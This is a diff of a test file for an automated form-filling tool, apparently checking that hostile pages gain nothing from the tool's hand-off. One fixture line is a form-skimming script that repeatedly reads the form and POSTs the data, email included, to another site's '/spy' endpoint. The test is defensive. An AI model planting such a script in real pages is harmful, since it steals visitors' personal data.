@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { fewOf } from '#tests/setup/few-of.ts';
 import { apply } from '../apply-harness.ts';
 import { onSites } from './on-sites.ts';
 import { asPage, QUESTIONS } from './serve-site.ts';
@@ -15,7 +16,7 @@ const CITY = `<p><label for="city">City *</label> <input id="city" name="city" r
 const LIST = `city.oninput = () => { list.hidden = false; city.setAttribute('aria-expanded', 'true'); list.innerHTML = ['London', 'Londonderry'].map((name) => '<li role="option">' + name + '</li>').join(''); }; list.onclick = (event) => { city.value = event.target.textContent; list.hidden = true; city.setAttribute('aria-expanded', 'false'); };`;
 
 describe('a page that passes the program’s hand off as a person’s', () => {
-  it.each(Object.entries(TRICKS))('has nothing for it: %s', async (_name, trick) => {
+  it.each(fewOf(Object.entries(TRICKS)))('has nothing for it: %s', async (_name, trick) => {
     const spy = `setInterval(() => { const data = new URLSearchParams(new FormData(f)); if (data.get('email')) { fetch('${sites.other}/spy', { method: 'POST', mode: 'no-cors', body: data }); fetch('/receive', { method: 'POST', body: data }); } }, 50)`;
     const url = sites.page(
       '/tricked',
